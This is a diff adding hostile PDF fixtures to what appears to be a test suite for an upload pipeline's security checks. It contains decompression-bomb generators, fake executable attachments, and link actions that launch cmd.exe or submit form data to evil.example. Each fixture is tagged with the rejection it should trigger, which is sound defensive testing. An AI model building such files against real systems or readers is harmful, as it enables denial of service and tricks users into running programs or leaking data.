@@ -13,6 +13,7 @@ far more than the limits allow; none is ever expanded here.
 
 from __future__ import annotations
 
+import base64
 import io
 import random
 import struct
@@ -20,10 +21,13 @@ import zipfile
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
+from functools import partial
 from pathlib import Path
 
 import pikepdf
 from PIL import Image
+from reportlab.lib.pagesizes import A4
+from reportlab.pdfgen import canvas
 
 from app.pipeline.security import EICAR
 from tests.support.samples import CLINICAL_LETTER, text_pdf
@@ -255,6 +259,234 @@ def html_pdf_polyglot() -> bytes:
     return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
 
 
+# Streams that decode past the cap whatever their filters (the test session's
+# MAX_PDF_STREAM_BYTES is 48 MiB: each of these decodes to 64 MiB of zeros).
+
+BOMB_BYTES = 64 * 1024 * 1024
+
+
+def flate_zeros(size: int = BOMB_BYTES) -> bytes:
+    compressor = zlib.compressobj(9)
+    block = b"\0" * (1 << 20)
+    return b"".join(compressor.compress(block) for _ in range(size >> 20)) + compressor.flush()
+
+
+def lzw_zeros(size: int = BOMB_BYTES) -> bytes:
+    """PDF LZW codes (early change) for at least `size` zero bytes: after each clear-table
+    code, code 0, then 258, 259, … each one zero longer than the one before."""
+    out, buffer, bits = bytearray(), 0, 0
+
+    def emit(code: int, width: int) -> None:
+        nonlocal buffer, bits
+        buffer, bits = (buffer << width) | code, bits + width
+        while bits >= 8:
+            bits -= 8
+            out.append((buffer >> bits) & 0xFF)
+        buffer &= (1 << bits) - 1
+
+    written, width = 0, 9
+    while written < size:
+        emit(256, width)
+        width, table = 9, 258
+        emit(0, width)
+        written += 1
+        while table < 4095 and written < size:
+            emit(table, width)
+            written += table - 256
+            table += 1
+            if table + 1 >= 1 << width and width < 12:
+                width += 1
+    emit(257, width)
+    if bits:
+        out.append((buffer << (8 - bits)) & 0xFF)
+    return bytes(out)
+
+
+def lzw_encode(data: bytes, early_change: int = 1) -> bytes:
+    """`data` as PDF LZW codes (a plain encoder, for data of ordinary size). It follows
+    the decoder's table (one entry behind its own) to write each code at its width."""
+    out, buffer, bits = bytearray(), 0, 0
+    decoder = {"entries": 258, "first": True}
+
+    def emit(code: int) -> None:
+        nonlocal buffer, bits
+        size = decoder["entries"] + early_change
+        width = next((w for w in (9, 10, 11) if size < 1 << w), 12)
+        buffer, bits = (buffer << width) | code, bits + width
+        while bits >= 8:
+            bits -= 8
+            out.append((buffer >> bits) & 0xFF)
+        buffer &= (1 << bits) - 1
+        if code == 256:
+            decoder.update(entries=258, first=True)
+        elif code < 256 or code > 257:
+            decoder["entries"] += 0 if decoder["first"] else 1
+            decoder["first"] = False
+
+    emit(256)
+    table, word = {bytes([v]): v for v in range(256)}, b""
+    for value in data:
+        longer = word + bytes([value])
+        if longer in table:
+            word = longer
+            continue
+        if word:
+            emit(table[word])
+            table[longer] = len(table) + 2  # 256 and 257 are clear and end
+        word = bytes([value])
+        if len(table) >= 4090:  # a new table before the decoder's fills
+            emit(table[word])
+            emit(256)
+            table, word = {bytes([v]): v for v in range(256)}, b""
+    if word:
+        emit(table[word])
+    emit(257)
+    if bits:
+        out.append((buffer << (8 - bits)) & 0xFF)
+    return bytes(out)
+
+
+def run_length_zeros(size: int = BOMB_BYTES) -> bytes:
+    return b"\x81\x00" * (size // 128) + b"\x80"  # each pair: 128 zeros
+
+
+def page_stream_pdf(filters: bytes, body: bytes, parms: bytes = b"") -> bytes:
+    """A one-page PDF whose content stream is `body` under `filters`."""
+    objects = _one_page()
+    objects[3] = (
+        b"<< /Length %d /Filter %s %s>>\nstream\n" % (len(body), filters, parms)
+        + body
+        + b"\nendstream"
+    )
+    return _raw_pdf(objects)
+
+
+def flate_chain_bomb_pdf() -> bytes:
+    return page_stream_pdf(b"[/FlateDecode /FlateDecode]", zlib.compress(flate_zeros(), 9))
+
+
+def ascii85_flate_bomb_pdf() -> bytes:
+    body = base64.a85encode(flate_zeros(), wrapcol=72) + b"~>"
+    return page_stream_pdf(b"[/ASCII85Decode /FlateDecode]", body)
+
+
+def jbig2_page(width: int, height: int) -> bytes:
+    """An embedded JBIG2 stream holding only a page information segment."""
+    info = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
+    return struct.pack(">IBBBI", 0, 48, 0, 1, len(info)) + info
+
+
+def image_xobject_pdf(filters: bytes, data: bytes, size: tuple[int, int] = (16, 16)) -> bytes:
+    """A page drawing a 1-bit image of `size` whose data is `data` under `filters`."""
+    image = (
+        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
+        b"/BitsPerComponent 1 /Filter %s /Length %d >>\nstream\n"
+        % (*size, filters, len(data))
+        + data
+        + b"\nendstream"
+    )
+    return _raw_pdf(
+        _one_page(
+            b"/Resources << /XObject << /Im0 5 0 R >> >>", b"q 72 0 0 72 0 0 cm /Im0 Do Q", [image]
+        )
+    )
+
+
+def annotated_pdf(annotation: bytes) -> bytes:
+    """A one-page PDF with one annotation (object 5)."""
+    return _raw_pdf(_one_page(b"/Annots [5 0 R]", b"", [annotation]))
+
+
+def link_action_pdf(action: bytes) -> bytes:
+    return annotated_pdf(
+        b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A " + action + b" >>"
+    )
+
+
+def ef_file_spec_pdf() -> bytes:
+    """A file specification carrying a file in /EF (its stream has no /Type), hung from a
+    link: the attachment is declared by /EF alone."""
+    payload = b"MZ\x90\x00" * 16
+    return _raw_pdf(
+        _one_page(
+            b"/Annots [5 0 R]",
+            b"",
+            [
+                b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] "
+                b"/FS << /Type /Filespec /F (report.exe) /EF << /F 6 0 R >> >> >>",
+                b"<< /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
+            ],
+        )
+    )
+
+
+def associated_file_pdf() -> bytes:
+    """PDF 2.0's associated files: /AF on the catalog, naming a file specification."""
+    objects = _one_page()
+    objects[0] = (
+        b"<< /Type /Catalog /Pages 2 0 R "
+        b"/AF [<< /Type /Filespec /F (data.xml) /AFRelationship /Data >>] >>"
+    )
+    return _raw_pdf(objects)
+
+
+def user_unit_pdf(unit: bytes = b"2") -> bytes:
+    return _raw_pdf(_one_page(b"/UserUnit " + unit))
+
+
+def inline_image_pdf(
+    width: int, height: int, data: bytes = b"00>", filters: bytes = b"/AHx"
+) -> bytes:
+    content = (
+        b"q 72 0 0 72 0 0 cm BI /W %d /H %d /BPC 1 /CS /G /F %s ID " % (width, height, filters)
+        + data
+        + b" EI Q"
+    )
+    return _raw_pdf(_one_page(content=content))
+
+
+def certificate_encrypted_pdf() -> bytes:
+    """Encrypted for a certificate's holder (the public-key handler), not with a password."""
+    plain = letter()
+    return plain.replace(
+        b"trailer\n<<",
+        b"trailer\n<< /Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /R 4 "
+        b"/Recipients [<3003>] >>",
+        1,
+    )
+
+
+def invariant_letter() -> bytes:
+    """The letter with no date or random file identifier: the same bytes every run."""
+    buffer = io.BytesIO()
+    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
+    for line_number, line in enumerate(CLINICAL_LETTER):
+        pdf.drawString(72, 800 - 18 * line_number, line)
+    pdf.showPage()
+    pdf.save()
+    return buffer.getvalue()
+
+
+def fuzzed_pdf(seed: int) -> bytes:
+    """The letter, damaged the same way for each seed: cut short (seed % 3 == 0), a few
+    bytes changed (1), or a run of bytes overwritten (2)."""
+    rng = random.Random(seed)
+    data = bytearray(invariant_letter())
+    if seed % 3 == 0:
+        del data[rng.randrange(len(data) // 4, len(data) - 40) :]
+    elif seed % 3 == 1:
+        for _ in range(rng.randint(4, 40)):
+            data[rng.randrange(9, len(data))] = rng.randrange(256)
+    else:
+        at, count = rng.randrange(9, len(data) - 200), rng.randrange(16, 200)
+        data[at : at + count] = rng.randbytes(count)
+    return bytes(data)
+
+
+# Seeds whose damage no repair recovers (the others are repaired by qpdf and read).
+FUZZ_SEEDS = (0, 1, 3, 6, 7, 9, 10, 11, 12, 13, 14, 15, 19)
+
+
 # Images ----------------------------------------------------------------------------
 
 
@@ -440,6 +672,23 @@ HOSTILE_CASES: tuple[HostileCase, ...] = (
         Q("encrypted_pdf"),
     ),
     HostileCase(
+        "encrypted_pdf_aes128",
+        "letter.pdf",
+        lambda: _encrypted(pikepdf.Encryption(user="user-pw", owner="owner-pw", R=4, aes=True)),
+        Q("encrypted_pdf"),
+    ),
+    HostileCase(
+        "encrypted_pdf_aes256_clear_metadata",
+        "letter.pdf",
+        lambda: _encrypted(
+            pikepdf.Encryption(user="user-pw", owner="owner-pw", R=6, metadata=False)
+        ),
+        Q("encrypted_pdf"),
+    ),
+    HostileCase(
+        "encrypted_pdf_certificate", "letter.pdf", certificate_encrypted_pdf, Q("encrypted_pdf")
+    ),
+    HostileCase(
         "javascript_open_action",
         "letter.pdf",
         lambda: _edit_pdf(_javascript_open_action),
@@ -477,6 +726,95 @@ HOSTILE_CASES: tuple[HostileCase, ...] = (
     HostileCase("huge_image_in_pdf", "letter.pdf", huge_image_xobject_pdf, Q("decompression_bomb")),
     HostileCase("huge_page_pdf", "letter.pdf", huge_page_pdf, Q("decompression_bomb")),
     HostileCase("pdf_zip_polyglot", "letter.pdf", polyglot_pdf_zip, Q("polyglot_file")),
+    # Every stream is capped whatever its filters; image codecs by what their headers claim.
+    HostileCase(
+        "flate_chain_bomb_pdf", "letter.pdf", flate_chain_bomb_pdf, Q("decompression_bomb")
+    ),
+    HostileCase(
+        "ascii85_flate_bomb_pdf", "letter.pdf", ascii85_flate_bomb_pdf, Q("decompression_bomb")
+    ),
+    HostileCase(
+        "lzw_bomb_pdf",
+        "letter.pdf",
+        lambda: page_stream_pdf(b"/LZWDecode", lzw_zeros()),
+        Q("decompression_bomb"),
+    ),
+    HostileCase(
+        "run_length_bomb_pdf",
+        "letter.pdf",
+        lambda: page_stream_pdf(b"/RunLengthDecode", run_length_zeros()),
+        Q("decompression_bomb"),
+    ),
+    HostileCase(
+        "jbig2_page_bomb_pdf",
+        "letter.pdf",
+        lambda: image_xobject_pdf(b"/JBIG2Decode", jbig2_page(60_000, 60_000)),
+        Q("decompression_bomb"),
+    ),
+    HostileCase(
+        "oversized_inline_image_pdf",
+        "letter.pdf",
+        lambda: inline_image_pdf(10_000, 10_000),
+        Q("decompression_bomb"),
+    ),
+    HostileCase(
+        "unknown_filter_pdf",
+        "letter.pdf",
+        lambda: page_stream_pdf(b"/SnakeOilDecode", b"q Q"),
+        Q("malformed_file"),
+    ),
+    HostileCase(
+        "codec_before_filter_pdf",
+        "letter.pdf",
+        lambda: page_stream_pdf(b"[/DCTDecode /FlateDecode]", b"q Q"),
+        Q("unsupported_pdf_feature"),
+    ),
+    HostileCase("user_unit_pdf", "letter.pdf", user_unit_pdf, Q("unsupported_pdf_feature")),
+    # Attachments however declared, and actions that reach beyond the document.
+    HostileCase("ef_file_spec_pdf", "letter.pdf", ef_file_spec_pdf, Q("executable_content")),
+    HostileCase(
+        "file_attachment_annotation_pdf",
+        "letter.pdf",
+        lambda: annotated_pdf(
+            b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 72 90 90] "
+            b"/FS << /Type /Filespec /F (notes.exe) >> >>"
+        ),
+        Q("executable_content"),
+    ),
+    HostileCase("associated_file_pdf", "letter.pdf", associated_file_pdf, Q("executable_content")),
+    HostileCase(
+        "goto_remote_pdf",
+        "letter.pdf",
+        lambda: link_action_pdf(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
+        Q("executable_content"),
+    ),
+    HostileCase(
+        "submit_form_pdf",
+        "letter.pdf",
+        lambda: link_action_pdf(
+            b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"
+        ),
+        Q("executable_content"),
+    ),
+    HostileCase(
+        "import_data_pdf",
+        "letter.pdf",
+        lambda: link_action_pdf(b"<< /S /ImportData /F (data.fdf) >>"),
+        Q("executable_content"),
+    ),
+    HostileCase(
+        "launch_link_pdf",
+        "letter.pdf",
+        lambda: link_action_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
+        Q("executable_content"),
+    ),
+    # Damaged files end with a named reason, never an internal error.
+    *(
+        HostileCase(
+            f"fuzzed_pdf_{seed}", "letter.pdf", partial(fuzzed_pdf, seed), Q("malformed_file")
+        )
+        for seed in FUZZ_SEEDS
+    ),
     # Images.
     HostileCase(
         "png_header_bomb", "scan.png", lambda: png_claiming(40_000, 40_000), Q("decompression_bomb")
